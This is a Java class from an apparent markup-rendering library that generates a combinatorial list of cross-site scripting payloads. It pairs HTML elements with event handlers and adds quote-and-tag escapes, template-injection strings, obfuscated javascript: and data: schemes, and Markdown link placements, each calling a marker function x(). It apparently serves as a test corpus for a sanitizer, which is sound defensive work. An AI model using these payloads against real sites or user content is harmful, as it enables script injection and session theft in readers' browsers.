package org.baygan.markup;

import java.util.ArrayList;
import java.util.List;

/** What strangers write to have a script run on a reader's page, combined from its parts. Each calls {@code x()}. */
public final class Payloads {
    private static final String[] ELEMENTS = {
        "img",
        "svg",
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "source",
        "track",
        "body",
        "details",
        "math",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "marquee",
        "isindex",
        "a",
        "p",
        "b",
        "table",
        "template",
        "style",
        "link",
        "meta",
        "base",
        "frameset",
        "x-y"
    };

    private static final String[] HANDLERS = {
        "src=x onerror=x()",
        "onload=x()",
        "onclick='x()'",
        "autofocus onfocus=\"x()\"",
        "open ontoggle=x()",
        "style='animation:a' onanimationstart=x()",
        "onpointerover\n=\nx()",
        "href=javascript:x() formaction=javascript:x() xlink:href=javascript:x() data=javascript:x()",
    };

    private static final String[] SEPARATORS = {" ", "/", "\t", "\n", " /", "/a=b/", " \"'` ", "\f"};

    private static final String[] ESCAPES = {
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "`>",
        "-->",
        "]]>",
        "</title>",
        "</script>",
        "</style>",
        "</textarea>",
        "</noscript>",
        "</p>",
        "\u2028",
        "*/",
        "\\\">",
        "&quot;>",
        "&#34;>",
        "${x()}<#assign a=1>",
        "{{x()}}",
        "[(${x()})]"
    };

    private static final String[] CORES = {
        "<script>x()</script>",
        "<img src=x onerror=x()>",
        " onmouseover=x() autofocus onfocus=x() a=",
        "<a href=javascript:x()>a</a>",
        "<svg><script>x()</script></svg>",
        "<iframe srcdoc='<script>parent.x()</script>'>",
    };

    private static final String[] SCHEMES = {
        "javascript:x()",
        "JaVaScRiPt:x()",
        "java\tscript:x()",
        " javascript:x()",
        "javascript&colon;x()",
        "&#106;avascript:x()",
        "&#x6A&#x61vascript:x()",
        "javascript&#00000000000000000000000000000000000058;x()",
        "\\javascript:x()",
        "javascript:%61lert(1)//",
        "%6Aavascript:x()",
        "vbscript:x()",
        "data:text/html,<script>x()</script>",
        "data:image/svg+xml,<svg onload=x()>",
        "feed:javascript:x()",
        "view-source:javascript:x()",
        "blob:x",
        "//e.example/\" onclick=\"x()",
        "https:javascript:x()",
        "https://e.example/'><script>x()</script>"
    };

    private static final String[] PLACES = {
        "%s",
        "[a](%s)",
        "[a](<%s>)",
        "![a](%s)",
        "<%s>",
        "[a]\n\n[a]: %s",
        "<a href=\"%s\">a</a>",
        "<a href='%s'>a</a>",
        "<img src=\"%s\">"
    };

    private Payloads() {}

    /** All of them, in one order. */
    public static List<String> all() {
        List<String> all = new ArrayList<>();
        for (int i = 0; i < ELEMENTS.length; i++) {
            for (int j = 0; j < HANDLERS.length; j++) {
                String end = (i + j) % 3 == 0 ? "" : (i + j) % 3 == 1 ? ">" : "></" + ELEMENTS[i] + ">";
                all.add("<" + ELEMENTS[i] + SEPARATORS[(i + j) % SEPARATORS.length] + HANDLERS[j] + end);
            }
        }
        for (String escape : ESCAPES) {
            for (String core : CORES) {
                all.add(escape + core);
            }
        }
        for (String scheme : SCHEMES) {
            for (String place : PLACES) {
                all.add(place.replace("%s", scheme));
            }
        }
        return all;
    }
}
